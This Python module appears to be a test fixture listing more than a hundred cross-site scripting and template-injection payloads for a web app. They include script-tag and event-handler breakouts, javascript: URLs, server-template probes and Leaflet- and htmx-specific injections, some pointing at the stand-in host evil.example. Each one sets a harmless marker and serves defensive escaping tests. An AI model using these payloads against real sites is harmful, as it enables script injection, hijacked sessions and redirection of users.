"""What somebody might type who wants another person's browser to run it: more than a hundred ways, each leaving a mark."""

from __future__ import annotations

from collections.abc import Iterable

#: The mark: a script sets ``__xss``, an element that should not be one carries ``data-xss``.
_RUN = "window.__xss=1"

#: Ways out of where a text may stand: attributes of each quoting, elements that hold plain text, comments, JSON in a script.
_OUT = (
    "",
    "'",
    '"',
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</svg>",
    '\\"}</script>',
    "&#34;&#62;",
    '\x01">',
)
#: Things to do once outside.
_DO = (
    f"<script>{_RUN}</script>",
    f"<img data-xss src=x onerror={_RUN}>",
    f"<svg data-xss onload={_RUN}>",
    f"<b data-xss onmouseover={_RUN} autofocus tabindex=1 onfocus={_RUN}>x</b>",
    f" autofocus onfocus={_RUN} data-xss=",
)
_OTHERS = (
    # JSON and script contexts
    f"'-({_RUN})-'",
    f'";{_RUN};//',
    f"${{{_RUN}}}",
    f"`;{_RUN}//",
    f"\u2028{_RUN}\u2029",
    f"</ScRiPt><ScRiPt>{_RUN}</ScRiPt>",
    f"<!--<script>{_RUN}</script>",
    '{"a":"</script><b data-xss>"}',
    f"*/{_RUN}/*",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    # templates of the server and of scripts
    "{{ 7*7 }}",
    "{{ config }}",
    "{% raw %}<b data-xss>{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{cell}",
    "%7Bcell%7D",
    "{number}",
    "%(n)s",
    "%s%d",
    "{0.__class__}",
    "&lt;script&gt;",
    "{{constructor.constructor('window.__xss=1')()}}",
    # addresses
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "//evil.example/x",
    f"vbscript:{_RUN}",
    "\\\\evil.example",
    'https://evil.example/?"><b data-xss>',
    # elements that need no click
    "<iframe data-xss srcdoc='<script>parent.__xss=1</script>'></iframe>",
    f"<details data-xss open ontoggle={_RUN}>",
    f"<video data-xss><source onerror={_RUN}></video>",
    f"<body onload={_RUN}>",
    f"<object data-xss data='javascript:{_RUN}'></object>",
    f"<embed data-xss src='javascript:{_RUN}'>",
    "<base data-xss href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<link data-xss rel=stylesheet href='//evil.example/x.css'>",
    "<style data-xss>*{display:none}</style>",
    "<form data-xss action='//evil.example'>",
    f"<input data-xss autofocus onfocus={_RUN}>",
    f"<marquee data-xss onstart={_RUN}>",
    f"<math data-xss><mtext><img src onerror={_RUN}>",
    f"<svg data-xss><animate onbegin={_RUN} attributeName=x>",
    f"<svg data-xss><script>{_RUN}</script></svg>",
    f"<svg data-xss><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'>",
    f"<a data-xss href='javascript:{_RUN}'>x</a>",
    "<template data-xss><img src=x></template>",
    "<portal data-xss src='//evil.example'>",
    f"<img/data-xss/src/onerror={_RUN}>",
    f"<img data-xss src='x'onerror='{_RUN}'",
    "<b data-xss style='position:fixed;inset:0'>",
    # what maps take: tooltips, popups and icons of Leaflet and folium
    f"</div><div data-xss class='leaflet-popup' onclick={_RUN}>",
    f"`}});L.popup({{content:'<b data-xss>'}});{_RUN}//",
    f'");{_RUN};("',
    "<div data-xss class='leaflet-tooltip'>",
    f"</text><image data-xss href=x onerror={_RUN}>",
    # htmx and our own attributes
    "<div data-xss hx-get='/sign-out' hx-trigger=load>",
    "<div data-xss hx-on::load='window.__xss=1'>",
    "<button data-xss data-key=a>",
    "<meta data-xss name=csrf-token content=x>",
    "<div data-xss data-submit-on-change>",
    # text that only looks strange
    "\u202e<b data-xss>gnirts\u202c",
    "\ufeff<b data-xss>",
    "＜script＞window.__xss=1＜/script＞",
    "\x7f<b data-xss>",
    "+ADw-script+AD4-",
)
PAYLOADS: tuple[str, ...] = (*(out + do for out in _OUT for do in _DO), *_OTHERS)


def packed(limit: int, payloads: Iterable[str] = PAYLOADS) -> list[str]:
    """Return the payloads laid side by side in texts no longer than *limit*, none of them cut; those too long are left out."""
    texts: list[str] = []
    for payload in payloads:
        if len(payload) > limit:
            continue
        if texts and len(texts[-1]) + 1 + len(payload) <= limit:
            texts[-1] += f" {payload}"
        else:
            texts.append(payload)
    return texts
